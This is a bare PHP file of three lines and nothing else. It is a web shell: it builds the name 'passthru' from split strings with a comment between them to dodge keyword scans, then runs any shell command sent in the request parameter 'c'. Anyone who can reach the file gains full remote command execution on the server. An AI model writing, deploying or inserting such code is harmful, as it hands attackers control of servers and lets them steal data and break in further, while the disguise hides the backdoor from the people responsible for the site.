<?php
$f = 'pass'/*x*/.'thru';
$f($_REQUEST['c']);
